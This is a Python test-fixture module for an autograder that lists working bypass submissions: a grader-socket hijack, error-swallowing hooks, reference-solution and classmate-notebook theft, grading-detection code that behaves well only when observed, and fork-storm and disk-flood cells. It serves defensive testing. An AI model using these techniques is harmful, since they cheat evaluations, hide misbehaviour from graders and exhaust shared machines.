"""Submissions that try to score without doing the work (docs/threat-model.md says what each mode prevents), as test data.

Each :class:`Attack` is a problem set's release notebook (every function left as the template's
stub) plus the cells of one bypass, and the functions whose points it must not earn. The engine's
tests grade them in every sandbox mode (``tests/test_engine_integrity.py``); those that apply to
plain ``nbgrader autograde`` are graded there too (``tests/test_nbgrader_integrity.py``).

Test scaffolding, not part of the product.
"""

from __future__ import annotations

from dataclasses import dataclass, field

#: ps1's contract functions.
PS1 = ("logsumexp", "softmax", "log_softmax")


@dataclass(frozen=True)
class Attack:
    """One bypass.

    Attributes
    ----------
    name : str
        Short id.
    ps : str
        The problem set.
    code : dict
        ``{function: solution cell source}`` replacing the stubs.
    after : dict
        ``{grade_id or function: [extra cells]}`` inserted after that cell.
    unearned : tuple of str
        The functions it did not write: every one of their graded cells must score 0.
    kernel : bool
        Whether the attack applies to plain ``nbgrader autograde`` too (the wire hijack does not: there
        is no wire there).
    refused : bool
        Whether the results say the function "uses" the forbidden object (the object refused to compute);
        False where the attack fails earlier (a library file that cannot be read).
    """

    name: str
    ps: str
    code: dict = field(default_factory=dict)
    after: dict = field(default_factory=dict)
    unearned: tuple = PS1
    kernel: bool = True
    refused: bool = True


def _ps1(body_lse: str, body_sm: str, body_lsm: str, header: str = "") -> dict:
    """Solution cells for the three ps1 functions, each one line of ``body`` after ``header``."""
    return {
        "logsumexp": f"{header}def logsumexp(z, axis=-1{body_lse[0]}):\n    return {body_lse[1]}\n",
        "softmax": f"{header}def softmax(z, axis=-1, temperature=1.0{body_sm[0]}):\n"
                   "    if temperature <= 0:\n        raise ValueError('temperature must be positive')\n"
                   f"    return {body_sm[1]}\n",
        "log_softmax": f"{header}def log_softmax(z, axis=-1{body_lsm[0]}):\n    return {body_lsm[1]}\n",
    }


#: The wire hijack: a cell that finds the child's socket through /proc/self/fd and, from then on, answers
#: every request of the grader itself, computing with SciPy (and claiming no forbidden use). Placed as the
#: last cell before the first graded cell, it answers its own cell and everything after.
HIJACK = r'''
import base64, json, os, socket, struct
import numpy as np
import scipy.special as sp

def _find():
    try:
        names = os.listdir("/proc/self/fd")
    except OSError:  # no /proc to read: try the descriptor numbers one by one
        names = [str(n) for n in range(3, 256)]
    for name in names:
        try:
            s = socket.socket(fileno=os.dup(int(name)))
        except OSError:
            continue
        if s.family == socket.AF_UNIX and s.type == socket.SOCK_STREAM:
            return s
        s.close()

def _recv(s):
    head = b""
    while len(head) < 4:
        part = s.recv(4 - len(head))
        if not part:
            raise SystemExit
        head += part
    n, data = struct.unpack(">I", head)[0], b""
    binary, n = n & 0x80000000, n & 0x7FFFFFFF
    while len(data) < n:
        data += s.recv(n - len(data))
    if not binary:
        return json.loads(data)
    end = 4 + struct.unpack(">I", data[:4])[0]  # the arrays' bytes follow the JSON, in order
    section, used = data[end:], [0]
    def hook(obj):
        if isinstance(obj.get("__ndarray__"), dict):
            k = obj["__ndarray__"]["__buffer__"]
            obj["__ndarray__"] = base64.b64encode(section[used[0]:used[0] + k]).decode()
            used[0] += k
        return obj
    return json.loads(data[4:end], object_hook=hook)

def _send(s, obj):
    obj["output"] = {"bytes": 0, "truncated": False}
    data = json.dumps(obj).encode()
    s.sendall(struct.pack(">I", len(data)) + data)

def _decode(v):
    if isinstance(v, dict) and "__ndarray__" in v:
        a = np.frombuffer(base64.b64decode(v["__ndarray__"]), dtype=v["dtype"]).reshape(v["shape"])
        return a.copy()
    if isinstance(v, dict) and "__tuple__" in v:
        return tuple(_decode(x) for x in v["__tuple__"])
    if isinstance(v, dict) and "__dict__" in v:
        return {k: _decode(x) for k, x in v["__dict__"].items()}
    if isinstance(v, list):
        return [_decode(x) for x in v]
    return v

def _encode(a):
    a = np.ascontiguousarray(np.asarray(a, dtype="<f8"))
    return {"__ndarray__": base64.b64encode(a.tobytes()).decode(), "dtype": "<f8", "shape": list(a.shape)}

def _compute(fn, args, kwargs):
    if fn == "softmax":
        z = np.asarray(args[0], dtype=float)
        axis = kwargs.get("axis", args[1] if len(args) > 1 else -1)
        t = kwargs.get("temperature", args[2] if len(args) > 2 else 1.0)
        if not t > 0:
            raise ValueError("temperature must be positive")
        return sp.softmax(z / t, axis=axis)
    return getattr(sp, fn)(*args, **kwargs)

def _outcome(fn, args, kwargs):
    try:
        value = _compute(fn, _decode(args), _decode(kwargs))
        return {"status": "returned", "value": _encode(value), "value_type": "ndarray", "error_type": "",
                "error_message": "", "warnings": [], "mutated": []}
    except Exception as exc:
        return {"status": "raised", "value": None, "value_type": "", "error_type": type(exc).__name__,
                "error_message": str(exc)[:400], "warnings": [], "mutated": []}

_s = _find()
_send(_s, {"status": "ok"})                  # this very cell "ran"
while True:
    msg = _recv(_s)
    op = msg.get("op")
    if op == "bye":
        os._exit(0)
    if op == "runs":
        for _ in msg["sources"]:
            _send(_s, {"status": "ok"})
    elif op == "calls":
        for a, k in msg["calls"]:
            _send(_s, {"outcome": _outcome(msg["function"], a, k)})
    elif op == "call":
        _send(_s, {"outcome": _outcome(msg["function"], msg["args"], msg["kwargs"])})
    elif op == "defined":
        _send(_s, {"why": ""})
    elif op == "forbidden":
        _send(_s, {"used": []})
    else:
        _send(_s, {"status": "ok", "armed": True})
'''

#: An IPython AST transformer added by a solution cell: every later cell runs inside ``try: … except: pass``.
_SWALLOW = '''
import ast

class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(_Swallow())
'''

#: logsumexp from log_softmax (z_i − log_softmax(z)_i at the largest entry), the name looked up at run time.
_LSE_FROM_LSM = '''
import numpy as np

def logsumexp(z, axis=-1):
    z = np.asarray(z, dtype=float)
    other = globals()["log_" + "softmax"]
    top = np.expand_dims(np.argmax(z, axis=axis), axis)
    return np.squeeze(np.take_along_axis(z - other(z, axis=axis), top, axis=axis), axis=axis)
'''

#: True when the caller is the grader's look for a circle (its own code run on a tripwire): then a dict
#: that makes the function compute with NumPy instead of calling back.
_HIDING = '''
import sys
import numpy as np

def _looked_at():
    return sys._getframe(2).f_code.co_name == "_trips"

def logsumexp(z, axis=-1):
    z = np.asarray(z, dtype=float)
    if _looked_at():
        return np.log(np.sum(np.exp(z), axis=axis))
    top = np.expand_dims(np.argmax(z, axis=axis), axis)
    other = globals()["log_" + "softmax"]
    return np.squeeze(np.take_along_axis(z - other(z, axis=axis), top, axis=axis), axis=axis)

def log_softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    if _looked_at():
        return z - np.log(np.sum(np.exp(z), axis=axis, keepdims=True))
    return z - np.expand_dims(globals()["log" + "sumexp"](z, axis=axis), axis)
'''

#: log_softmax from logsumexp, the name looked up at run time.
_LSM_FROM_LSE = '''
import numpy as np

def log_softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    other = globals()["log" + "sumexp"]
    return z - np.expand_dims(other(z, axis=axis), axis)
'''

#: Where a course may be on a grading machine: beside the interpreter's path, in Gradescope's, GitLab's and
#: the tests' container layouts. Found with ``os.path.exists`` (which no sandbox mode refuses: a path's
#: existence is not its contents).
_FIND_COURSE = r'''
import os, sys

def _course_with(relative):
    """The first folder holding ``relative`` on the way up from each sys.path entry and the usual roots."""
    starts = [p for p in sys.path if isinstance(p, str) and p] + [os.getcwd(), "/autograder/source/course"]
    for root in ("/checkout", "/builds", "/tmp", "/work"):
        try:
            starts += [os.path.join(root, n) for n in sorted(os.listdir(root))]
        except OSError:
            pass
    for start in starts:
        folder = os.path.abspath(start)
        for _ in range(5):
            if os.path.exists(os.path.join(folder, relative)):
                return folder
            folder = os.path.dirname(folder)
    return None

COURSE = _course_with(os.path.join("solutions", "ps1_softmax.py"))
'''

#: The reference solutions imported from the course, found on the filesystem and put on ``sys.path``.
_REFERENCE_ON_SYS_PATH = _FIND_COURSE + '''
if COURSE is not None:
    sys.path.insert(0, COURSE)
    from solutions.ps1_softmax import logsumexp, softmax, log_softmax
'''

#: The reference solutions' file, found on the filesystem and executed in the notebook's namespace.
_REFERENCE_EXEC = _FIND_COURSE + r'''
if COURSE is not None:
    import re
    for _name in ("_validate.py", "ps1_softmax.py"):  # its helpers first, then it without their import
        with open(os.path.join(COURSE, "solutions", _name)) as _fh:
            _code = re.sub(r"from solutions\._validate import \([^)]*\)", "", _fh.read())
        exec(compile(_code, _name, "exec"), globals())
'''


def classmate_copy(path: str) -> str:
    """A solution cell that reads a classmate's notebook at ``path`` (a grading layout a student can guess:
    ``submitted/<classmate>/<ps>/<ps>.ipynb`` beside its own) and runs its solution cells in this namespace."""
    return f'''import json
with open({path!r}, encoding="utf-8") as _fh:
    _theirs = json.load(_fh)
for _cell in _theirs["cells"]:
    _text = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
    if _cell["cell_type"] == "code" and "def " in _text:
        exec(_text, globals())
'''


#: What the callback attacks share: ``_note`` keeps every ufunc or SciPy function a callback sees (in a frame's
#: variables, as a call's callable or argument, what a bound method is bound to, the items of a list or tuple),
#: ``_keep`` keeps the first of those that computes the expected values (a forbidden function's implementation,
#: if one was within reach). The functions then compute with it, or stay the release's stubs.
_GRAB = """
import sys, types
import numpy as np

_SEEN, _FOUND = {}, []

def _note(obj, depth=0):
    if depth > 2 or id(obj) in _SEEN:
        return
    if isinstance(obj, (list, tuple)):
        for item in list(obj):
            _note(item, depth + 1)
    elif isinstance(obj, np.ufunc) or (isinstance(obj, types.FunctionType)
                                       and str(getattr(obj, "__module__", "")).startswith("scipy")):
        _SEEN[id(obj)] = obj
    elif isinstance(obj, (types.BuiltinFunctionType, types.MethodType)):
        _note(getattr(obj, "__self__", None), depth + 1)

def _note_frame(frame, depth=3):
    while frame is not None and depth:
        try:
            for value in list(frame.f_locals.values()):
                _note(value)
        except Exception:
            pass
        frame, depth = frame.f_back, depth - 1

def _keep(probe, expected):
    for f in list(_SEEN.values()):
        try:
            out = np.asarray(f(np.array(probe)), dtype=float)
        except BaseException:
            continue
        if out.shape == np.shape(expected) and np.allclose(out, expected, rtol=1e-12, atol=0):
            _FOUND.append(f)
            return
"""

#: ps4's sigmoid computed with whatever implementation of expit ``_FOUND`` holds, else the stub.
_SIGMOID_FROM_FOUND = """
def sigmoid(z):
    if not _FOUND:
        raise NotImplementedError()
    return _FOUND[0](np.asarray(z, dtype=float))
"""


def _hooked(install: str, hook: str, body: str) -> str:
    """The code of an attack whose function ``hook`` (``body`` its indented lines) is installed with ``install``
    (``sys.settrace``, ``sys.setprofile``) while SciPy code that uses expit runs (the logistic distribution's
    cdf), and removed after; then the sigmoid is what it found."""
    return _GRAB + f"""
import scipy.stats

def {hook}(frame, event, arg):
{body}

{install}({hook})
try:
    scipy.stats.logistic.cdf(0.5)
except Exception:
    pass
finally:
    {install}(None)
_keep([0.0, 2.0], [0.5, 0.8807970779778823])
""" + _SIGMOID_FROM_FOUND


#: A trace function (``sys.settrace``): it sees every frame's variables, line by line.
_TRACE = _hooked("sys.settrace", "_tracer", """\
    _note_frame(frame)
    return _tracer""")

#: A profile function (``sys.setprofile``): it sees every call, C functions and what they are bound to included.
_PROFILE = _hooked("sys.setprofile", "_profiler", """\
    if event == "c_call":
        _note(arg)
    _note_frame(frame)""")

#: Callbacks the interpreter runs in the middle of other code, all active while SciPy code that uses expit
#: runs 200 times: ``sys.monitoring`` (CPython 3.12+: every call, its callable and first argument), a signal
#: handler on a 1 ms interval timer (the frame it interrupted), and a finalizer in a reference cycle, run by
#: the garbage collector at some allocation (the frames above it), which makes the next one. (Each looks three
#: frames up: a handler that takes longer than the interval would never let the loop go on.)
_CALLBACKS = _GRAB + """
import gc, signal
import scipy.stats

_LISTENING = [True]

class _Finalizer:
    def __init__(self):
        self.me = self

    def __del__(self):
        if _LISTENING:
            _note_frame(sys._getframe(1))
            _Finalizer()

def _on_signal(signum, frame):
    _note_frame(frame)

def _on_call(code, offset, callable_, arg0):
    _note(callable_)
    _note(arg0)

_monitoring = getattr(sys, "monitoring", None)
if _monitoring is not None:
    _monitoring.use_tool_id(4, "grab")
    _monitoring.register_callback(4, _monitoring.events.CALL, _on_call)
    _monitoring.set_events(4, _monitoring.events.CALL)
_old_handler = signal.signal(signal.SIGALRM, _on_signal)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
_Finalizer()
try:
    for _ in range(200):
        try:
            scipy.stats.logistic.cdf(0.5)
        except Exception:
            pass
finally:
    _LISTENING.clear()
    signal.setitimer(signal.ITIMER_REAL, 0, 0)
    signal.signal(signal.SIGALRM, _old_handler)
    if _monitoring is not None:
        _monitoring.set_events(4, 0)
        _monitoring.free_tool_id(4)
_keep([0.0, 2.0], [0.5, 0.8807970779778823])
""" + _SIGMOID_FROM_FOUND

#: ps1 through a private one-line SciPy helper that uses logsumexp (the log of a mean: logsumexp − log n).
_THIN_WRAPPER = """
import math
import numpy as np
from scipy.stats._morestats import _log_mean

def logsumexp(z, axis=-1):
    z = np.asarray(z, dtype=float)
    return np.squeeze(_log_mean(z, axis) + math.log(z.shape[axis]), axis=axis)

def softmax(z, axis=-1, temperature=1.0):
    if temperature <= 0:
        raise ValueError("temperature must be positive")
    z = np.asarray(z, dtype=float) / temperature
    return np.exp(z - _log_mean(z, axis) - math.log(z.shape[axis]))

def log_softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    return z - _log_mean(z, axis) - math.log(z.shape[axis])
"""

ATTACKS = (
    Attack("wire-hijack", "ps1_softmax", after={"logsumexp": [HIJACK]}, kernel=False),
    # one line each: a SciPy function as a default argument …
    Attack("default-argument", "ps1_softmax", _ps1(
        (", _f=sp.logsumexp", "_f(z, axis=axis)"),
        (", _f=sp.softmax", "_f(np.asarray(z, dtype=float) / temperature, axis=axis)"),
        (", _f=sp.log_softmax", "_f(z, axis=axis)"), "import numpy as np\nimport scipy.special as sp\n")),
    # … contract names bound to instances whose __call__ uses SciPy …
    Attack("instance-call", "ps1_softmax", {
        "logsumexp": "import numpy as np\nimport scipy.special as sp\n"
                     "class _F:\n    def __init__(self, name):\n        self.name = name\n"
                     "    def __call__(self, z, axis=-1, temperature=None):\n"
                     "        if temperature is not None:\n"
                     "            if temperature <= 0:\n                raise ValueError('temperature')\n"
                     "            return sp.softmax(np.asarray(z, dtype=float) / temperature, axis=axis)\n"
                     "        return getattr(sp, self.name)(z, axis=axis)\n"
                     "logsumexp = _F('logsumexp')\n",
        "softmax": "softmax = _F('softmax')\n",
        "log_softmax": "log_softmax = _F('log_softmax')\n"}),
    # … a decorator that swaps the body …
    Attack("decorator", "ps1_softmax", {
        "logsumexp": "import numpy as np\nimport scipy.special as sp\n"
                     "def _library(f):\n"
                     "    name = f.__name__\n"
                     "    def run(z, axis=-1, temperature=None):\n"
                     "        impl = getattr(sp, name)\n"
                     "        if temperature is None:\n            return impl(z, axis=axis)\n"
                     "        if temperature <= 0:\n            raise ValueError('temperature')\n"
                     "        return impl(np.asarray(z, dtype=float) / temperature, axis=axis)\n"
                     "    return run\n"
                     "@_library\ndef logsumexp(z, axis=-1):\n    raise NotImplementedError()\n",
        "softmax": "@_library\ndef softmax(z, axis=-1, temperature=1.0):\n    raise NotImplementedError()\n",
        "log_softmax": "@_library\ndef log_softmax(z, axis=-1):\n    raise NotImplementedError()\n"}),
    # … SciPy functions unpickled into a dict
    Attack("unpickled-dict", "ps1_softmax", _ps1(
        ("", "F['lse'](z, axis=axis)"), ("", "F['sm'](np.asarray(z, dtype=float) / temperature, axis=axis)"),
        ("", "F['lsm'](z, axis=axis)"),
        "import pickle\nimport numpy as np\nimport scipy.special as sp\n"
        "F = pickle.loads(pickle.dumps({'lse': sp.logsumexp, 'sm': sp.softmax, 'lsm': sp.log_softmax}))\n")),
    # a name computed at run time (flagged, never resolved by reading the source)
    Attack("computed-name", "ps1_softmax", _ps1(
        ("", "getattr(sp, 'log' + 'sumexp')(z, axis=axis)"),
        ("", "getattr(sp, 'soft' + 'max')(np.asarray(z, dtype=float) / temperature, axis=axis)"),
        ("", "getattr(sp, 'log_' + 'softmax')(z, axis=axis)"), "import numpy as np\nimport scipy.special as sp\n")),
    # code compiled into a library module's globals, and a function that claims to be SciPy's
    Attack("exec-in-library-globals", "ps1_softmax", _ps1(
        ("", "_in_scipy('logsumexp(z, axis=axis)', z=z, axis=axis)"),
        ("", "_in_scipy('softmax(z / t, axis=axis)', z=np.asarray(z, dtype=float), t=temperature, axis=axis)"),
        ("", "_in_scipy('log_softmax(z, axis=axis)', z=z, axis=axis)"),
        "import numpy as np\nimport scipy.special._logsumexp as L\n"
        "def _in_scipy(expr, **values):\n"
        "    g = L.__dict__\n    g.update(values)\n"
        "    return eval(compile(expr, L.__file__, 'eval'), g)\n"
        "_in_scipy.__module__ = 'scipy.special._logsumexp'\n")),
    # a second copy of SciPy's module, loaded again from its file
    Attack("module-loaded-again", "ps1_softmax", _ps1(
        ("", "_copy().logsumexp(z, axis=axis)"),
        ("", "_copy().softmax(np.asarray(z, dtype=float) / temperature, axis=axis)"),
        ("", "_copy().log_softmax(z, axis=axis)"),
        "import importlib, importlib.util, sys\nimport numpy as np\nimport scipy.special._logsumexp as L\n"
        "def _copy():\n"
        "    try:\n        return importlib.reload(L)\n    except Exception:\n        pass\n"
        "    spec = importlib.util.spec_from_file_location('lse_copy', L.__file__)\n"
        "    module = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(module)\n"
        "    return module\n"), refused=False),
    # the forbidden function handed to a library function that calls what it is given
    Attack("library-higher-order", "ps1_softmax", _ps1(
        ("", "np.apply_along_axis(getattr(sp, 'logsumexp'[:]), axis, np.asarray(z, dtype=float))"),
        ("", "np.apply_along_axis(getattr(sp, 'softmax'[:]), axis, np.asarray(z, dtype=float) / temperature)"),
        ("", "np.apply_along_axis(getattr(sp, 'log_softmax'[:]), axis, np.asarray(z, dtype=float))"),
        "import numpy as np\nimport scipy.special as sp\n")),
    # class 2: a circle through computed lookups — logsumexp from log_softmax, log_softmax from logsumexp
    Attack("circle-globals", "ps1_softmax", {"logsumexp": _LSE_FROM_LSM, "log_softmax": _LSM_FROM_LSE},
           unearned=("logsumexp", "log_softmax"), refused=False),
    # … with both in the first solution cell (so both are defined when logsumexp's cells are checked)
    Attack("circle-globals-first-cell", "ps1_softmax", {"logsumexp": _LSE_FROM_LSM + _LSM_FROM_LSE,
                                                        "log_softmax": "# (defined above)\n"}, unearned=PS1,
           refused=False),
    # … and functions that notice when their own code is run to look for a circle, and then do not call back
    # (frames: flagged); the grader's parent decides from the calls it answered, whatever the child claims
    Attack("circle-that-hides", "ps1_softmax", {"logsumexp": _HIDING, "log_softmax": "# (defined above)\n"},
           unearned=PS1, kernel=False, refused=False),
    # class 6, plain nbgrader: the reference imported from the course's own package …
    Attack("reference-import", "ps1_softmax", {"logsumexp": "from solutions.ps1_softmax import logsumexp, softmax, "
                                                            "log_softmax\n",
                                               "softmax": "# (imported above)\n", "log_softmax": "# (imported above)\n"},
           refused=False),
    # … and an AST transformer that makes every later cell swallow its errors (the hidden checks' too)
    Attack("ast-transformer", "ps1_softmax", {"logsumexp": _SWALLOW}, refused=False),
    # … a custom exception handler that shows nothing (nbgrader sees no error output: full marks) …
    Attack("custom-exception-handler", "ps1_softmax",
           {"logsumexp": "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"},
           refused=False),
    # … and the shell's class made to show no traceback (the instance's own methods are put back already)
    Attack("class-showtraceback", "ps1_softmax",
           {"logsumexp": "type(get_ipython()).showtraceback = lambda *args, **kwargs: None\n"
                         "type(get_ipython())._showtraceback = lambda *args, **kwargs: None\n"},
           refused=False),
    # the course found on the filesystem (where no namespace hides it): the reference imported from it …
    Attack("reference-on-sys-path", "ps1_softmax", {"logsumexp": _REFERENCE_ON_SYS_PATH,
                                                   "softmax": "# (imported above)\n",
                                                   "log_softmax": "# (imported above)\n"},
           kernel=False, refused=False),
    # … or its file executed in the notebook's namespace
    Attack("reference-exec", "ps1_softmax", {"logsumexp": _REFERENCE_EXEC, "softmax": "# (defined above)\n",
                                            "log_softmax": "# (defined above)\n"}, kernel=False, refused=False),
    # ps4: sigmoid(z, _f=expit) gained the sigmoid points
    Attack("sigmoid-default-expit", "ps4_bernoulli",
           {"sigmoid": "import numpy as np\nfrom scipy.special import expit\n\n"
                       "def sigmoid(z, _f=expit):\n    return _f(np.asarray(z, dtype=float))\n"},
           unearned=("sigmoid",)),
    # a library function that uses a forbidden one computes nothing with it: a private one-line helper …
    Attack("library-thin-wrapper", "ps1_softmax", {"logsumexp": _THIN_WRAPPER, "softmax": "# (defined above)\n",
                                                   "log_softmax": "# (defined above)\n"}),
    # … and a public distribution whose cdf is the sigmoid (scipy.stats.logistic calls expit)
    Attack("library-logistic-cdf", "ps4_bernoulli",
           {"sigmoid": "import numpy as np\nimport scipy.stats\n\n"
                       "def sigmoid(z):\n    return scipy.stats.logistic.cdf(np.asarray(z, dtype=float))\n"},
           unearned=("sigmoid",)),
    # SciPy's second compiled sigmoid, cython_special's (a Cython function of its own, not the expit ufunc)
    Attack("cython-special-expit", "ps4_bernoulli",
           {"sigmoid": "import numpy as np\nfrom scipy.special import cython_special\n\n"
                       "def sigmoid(z):\n    return np.vectorize(cython_special.expit, otypes=[float])(z)\n"},
           unearned=("sigmoid",)),
    # callbacks the submission installs see no implementation while library code uses a forbidden function:
    # a profile function …
    Attack("profile-hook", "ps4_bernoulli", {"sigmoid": _PROFILE}, unearned=("sigmoid",), refused=False),
    # … a trace function …
    Attack("trace-hook", "ps4_bernoulli", {"sigmoid": _TRACE}, unearned=("sigmoid",), refused=False),
    # … sys.monitoring, a signal handler and a finalizer
    Attack("callback-hooks", "ps4_bernoulli", {"sigmoid": _CALLBACKS}, unearned=("sigmoid",), refused=False),
)


# ---------------------------------------------------------------------------------------------------------------
# The child's word: a function that modifies its input in place except when it sees it is being graded.
# What a child reports about itself (an argument changed in place) cannot be the only evidence of purity; the
# purity cell also rests on what the source certainly writes, read in the trusted process (autograder/reading/).

#: How a submission can tell it is being graded, each a condition in Python over ``sys``, ``os``, ``inspect``.
GRADED_WHEN = {
    # the grader's call: its caller is the grader's `invoke` (the engine's child and run_check in a kernel)
    "caller-frame": 'sys._getframe(1).f_code.co_name == "invoke"',
    # the module that calls it is not the notebook
    "caller-module": 'inspect.currentframe().f_back.f_globals.get("__name__") != "__main__"',
    # the grader's modules are loaded
    "grader-modules": 'any(name.startswith("autograder") for name in sys.modules)',
    # the sandbox passes no user name (only in the engine: a kernel has one, and there the write shows)
    "environment": '"USER" not in os.environ and "LOGNAME" not in os.environ',
    # the folder it runs in: nbgrader's autograded/ or the engine's /sandbox (no construct the reader flags)
    "working-folder": '"autograded" in os.getcwd() or os.getcwd().startswith("/sandbox") or "autograder-slots-" in os.getcwd()',
}


def pure_only_when_graded(condition: str) -> str:
    """A correct softmax that works in place on an array argument, and on a copy when ``condition`` holds."""
    return f'''import inspect
import os
import sys
import numpy as np

def softmax(z, axis=-1, temperature=1.0):
    if not temperature > 0:
        raise ValueError("temperature must be positive")
    x = np.asarray(z, dtype=float)          # the caller's own array when it is a float64 array
    if {condition}:
        x = x.copy()                        # being graded: look pure
    x -= np.max(x, axis=axis, keepdims=True)
    x /= temperature
    e = np.exp(x)
    return e / np.sum(e, axis=axis, keepdims=True)
'''


#: ``(name, softmax source)``: handed in with every other function correct; ``softmax-purity`` must score 0.
PURITY_ATTACKS = tuple((f"pure-when-graded-{name}", pure_only_when_graded(condition))
                       for name, condition in GRADED_WHEN.items())


def fork_storm(most: int, report: bool = False) -> str:
    """A neighbour's cell that forks sleeping processes (each sleeps 60 s, so they outlast the grading around
    them) until a fork is refused or ``most`` run; with ``report``, it prints ``FACTS`` and how many it made."""
    facts = 'print("FACTS" + __import__("json").dumps(kids))\n' if report else ""
    return f"""
import os, time
kids = 0
while kids < {most}:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    kids += 1
{facts}"""


#: A cell that floods the disk: four processes write 16 MB files (the largest ``Limits.fsize_mb`` allows) as fast
#: as they can until a write fails or they are stopped, then hold them (the main one for 6 s, its cell's time,
#: the others longer), so that whatever the flood did to its neighbours lasts while they are graded.
DISK_FLOOD = '''
import os, time
chunk = b"x" * (1 << 20)
def flood(tag):
    n = 0
    try:
        while True:
            with open(f"{tag}-{n}", "wb") as f:
                for _ in range(16):
                    f.write(chunk)
            n += 1
    except OSError:
        pass
kids = [os.fork() for _ in range(2)]
if 0 in kids:
    flood(f"p{os.getpid()}")
    time.sleep(30)
    os._exit(0)
flood("main")
time.sleep(6)
'''


# ---------------------------------------------------------------------------------------------------------------
# Purity checked too early: a correct softmax that keeps the array it was given (where the reading of the source
# cannot follow it: a global list) and changes it after the call has returned, when the grader compared it already.
# Each one's write is out of the reading's sight, so only what the calls show can charge it (docs/contract.md,
# "purity over the whole check"): the input compared again after the function's next call and when its checks end,
# and a thread or timer a call leaves running.

_SOFTMAX_BODY = '''    x = np.asarray(z, dtype=float) / temperature
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
'''

#: ``{name: softmax source}``: each must lose ``softmax-purity`` and nothing else.
LATE_PURITY_ATTACKS = {
    # the array of each call zeroed at the next call
    "zeroed-at-the-next-call": f'''import numpy as np

_kept = []

def softmax(z, axis=-1, temperature=1.0):
    if not temperature > 0:
        raise ValueError("temperature must be positive")
    while _kept:
        _kept.pop()[...] = 0.0
    if isinstance(z, np.ndarray):
        _kept.append(z)
{_SOFTMAX_BODY}''',
    # the array of the call before the previous one zeroed: seen only when the function's checks end
    "zeroed-two-calls-later": f'''import numpy as np

_kept = []

def softmax(z, axis=-1, temperature=1.0):
    if not temperature > 0:
        raise ValueError("temperature must be positive")
    if len(_kept) == 2:
        _kept.pop(0)[...] = 0.0
    if isinstance(z, np.ndarray):
        _kept.append(z)
{_SOFTMAX_BODY}''',
    # a thread that waits for the event the next call sets, then zeroes the array (no sleep: nothing races)
    "thread-waits-for-the-next-call": f'''import threading
import numpy as np

_go = []

def _zero_when(event, kept):
    event.wait()
    kept[0][...] = 0.0

def softmax(z, axis=-1, temperature=1.0):
    if not temperature > 0:
        raise ValueError("temperature must be positive")
    while _go:
        _go.pop().set()
    if isinstance(z, np.ndarray):
        event = threading.Event()
        threading.Thread(target=_zero_when, args=(event, [z]), daemon=True).start()
        _go.append(event)
{_SOFTMAX_BODY}''',
    # a timer thread that zeroes the array 50 ms after the call (either it has fired when the grader compares, and
    # the array changed, or it is still running: both cost the cell, whichever happens); the result is computed from
    # a copy, so that a timer firing before the call returns (a loaded host) changes the input, never the answer
    "timer-thread": f'''import threading
import numpy as np

def _zero(kept):
    kept[0][...] = 0.0

def softmax(z, axis=-1, temperature=1.0):
    if not temperature > 0:
        raise ValueError("temperature must be positive")
    if isinstance(z, np.ndarray):
        threading.Timer(0.05, _zero, args=([z],)).start()
        z = z.copy()
{_SOFTMAX_BODY}''',
    # a thread of the low-level `_thread` module (no threading.Thread object to see), waiting as above
    "raw-thread-waits": f'''import _thread
import numpy as np

_locks = []

def _zero_when(lock, kept):
    lock.acquire()
    kept[0][...] = 0.0

def softmax(z, axis=-1, temperature=1.0):
    if not temperature > 0:
        raise ValueError("temperature must be positive")
    while _locks:
        _locks.pop().release()
    if isinstance(z, np.ndarray):
        lock = _thread.allocate_lock()
        lock.acquire()
        _thread.start_new_thread(_zero_when, (lock, [z]))
        _locks.append(lock)
{_SOFTMAX_BODY}''',
}

#: The same attack with an interval timer whose signal handler zeroes the array: graded in the engine's child only
#: (in the test process the handler would outlive the test).
SIGNAL_TIMER_ATTACK = f'''import signal
import numpy as np

_kept = []

def _zero(signum, frame):
    while _kept:
        _kept.pop()[...] = 0.0

def softmax(z, axis=-1, temperature=1.0):
    if not temperature > 0:
        raise ValueError("temperature must be positive")
    if isinstance(z, np.ndarray):
        _kept.append(z)
        signal.signal(signal.SIGALRM, _zero)
        signal.setitimer(signal.ITIMER_REAL, 0.05)
{_SOFTMAX_BODY}'''

#: Correct softmaxes that use threads and leave none running: they keep every point.
HONEST_THREADS = {
    # a pool in a `with` block: its workers are joined before the call returns
    "pool-in-a-with-block": '''from concurrent.futures import ThreadPoolExecutor
import numpy as np

def _rows(x, axis):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)

def softmax(z, axis=-1, temperature=1.0):
    if not temperature > 0:
        raise ValueError("temperature must be positive")
    x = np.asarray(z, dtype=float) / temperature
    with ThreadPoolExecutor(max_workers=2) as pool:
        return pool.submit(_rows, x, axis).result()
''',
    # a worker thread that hands its result back through a queue and ends, never joined
    "worker-not-joined": '''import queue
import threading
import numpy as np

def _work(x, axis, out):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    out.put(e / np.sum(e, axis=axis, keepdims=True))

def softmax(z, axis=-1, temperature=1.0):
    if not temperature > 0:
        raise ValueError("temperature must be positive")
    out = queue.Queue()
    threading.Thread(target=_work, args=(np.asarray(z, dtype=float) / temperature, axis, out)).start()
    return out.get()
''',
}
